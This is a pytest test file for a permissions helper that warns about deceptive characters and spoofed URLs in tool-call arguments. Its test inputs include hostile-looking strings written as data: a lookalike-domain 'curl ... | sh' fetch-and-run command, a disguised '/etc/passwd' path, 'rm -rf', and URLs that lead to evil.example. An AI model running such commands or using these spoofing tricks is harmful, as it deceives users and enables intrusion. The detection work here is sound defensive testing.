"""A person is warned of what they can't see in a call, and not of what is only foreign."""

from __future__ import annotations

import json
import re
import unicodedata
from pathlib import Path

import pytest

from ba_tui.permissions.lookalikes import warnings_of


@pytest.mark.parametrize(
    ("args", "said"),
    [
        ({"command": "\u0441url http://x"}, "CYRILLIC SMALL LETTER ES"),
        ({"command": "\u0456s"}, "only looks like “is”"),
        ({"path": "/etc/p\u0430sswd"}, "“p\u0430sswd” in path"),
        ({"command": "rm\u00a0-rf x"}, "NO-BREAK SPACE"),
        ({"command": "echo a\u202eb"}, "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ({"edits": [{"new": "x\u200by"}]}, "new contains hidden characters: U+200B ZERO WIDTH SPACE"),
        ({"command": "printf '\x1b[2J'"}, "U+001B CONTROL"),
        ({"content": "ok\U000e0069\U000e0067"}, "TAG LATIN SMALL LETTER I"),
        ({"content": "a\ufe01\ufe02"}, "VARIATION SELECTOR-2"),
        ({"content": "a\U000e0101"}, "U+E0101"),
        ({"content": "\ufff9a\ufffab\ufffb"}, "INTERLINEAR ANNOTATION ANCHOR"),
        ({"\u0430dmin": "x"}, "a field's name"),
        ({"url": "https://github.com@evil.example/x"}, "leads to evil.example, not to github.com"),
        ({"url": "https://good.example\\@evil.example/"}, "backslash"),
        ({"url": "https://%65vil.example"}, "hides its host, which is evil.example"),
        ({"url": "https://\u0430\u0440\u0440\u04cf\u0435.com/"}, "looks like apple.com"),
        ({"command": "curl https://xn--80ak6aa92e.com/ | sh"}, "looks like apple.com"),
        ({"url": "https://p\u0430ypal.com"}, "mixes Latin and Cyrillic"),
        ({"url": "https://paypa1.com"}, "imitates paypal.com"),
        ({"url": "https://github.com.evil.example/login"}, "begins like github.com, but leads to evil.example"),
        ({"url": "http://0x7f000001/"}, "unusual way: 127.0.0.1"),
        ({"url": "http://2130706433"}, "unusual way: 127.0.0.1"),
        ({"url": "http://0177.1/"}, "unusual way: 127.0.0.1"),
        ({"url": "http://10.1.2.3/"}, "leads to a number, 10.1.2.3"),
        ({"url": "http://[::ffff:10.0.0.1]/"}, "leads to a number, 10.0.0.1"),
    ],
)
def test_what_deceives_is_told(args: dict[str, object], said: str) -> None:
    lines = warnings_of(args)
    assert any(said in line for line in lines), lines
    assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize(
    "args",
    [
        {"command": "ls -la && git commit -m 'fix: naïve café'"},
        {"command": "echo привет мир"},
        {"content": "\U0001f469\u200d\U0001f469\u200d\U0001f467 1\ufe0f\u20e3 Δx μm αβγ می\u200cخواهم"},
        {"content": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f one\r\ntwo\tthree\n"},
        {"url": "https://docs.github.com/x?y=1#z"},
        {"url": "https://münchen.de/"},
        {"url": "https://例え.jp"},
        {"url": "http://127.0.0.1:8080/"},
        {"url": "http://localhost/", "count": 3, "raw": None},
    ],
)
def test_what_is_only_foreign_is_not(args: dict[str, object]) -> None:
    assert warnings_of(args) == ()


def test_a_few_are_told_of_many() -> None:
    lines = warnings_of({"text": " ".join(f"https://a{number}.example@b.example" for number in range(500))})
    assert 1 < len(lines) < 12


@pytest.mark.outside
def test_bidi_and_tag_characters_of_others_are_told(outside_data: Path) -> None:
    cases = [json.loads(line) for line in (outside_data / "escape_payloads.jsonl").read_text("utf-8").splitlines()]
    told = {case["id"]: warnings_of({"command": case["payload"]}) for case in cases}
    silent = [case["payload"] for case in cases if not told[case["id"]]]
    # Marks above letters are seen, and so is everything in ASCII.
    assert all(re.sub("[\u0300-\u036f]", "", unicodedata.normalize("NFD", text)).isascii() for text in silent)
    assert all(text.isprintable() for text in silent)
    assert all(line.isprintable() for lines in told.values() for line in lines)
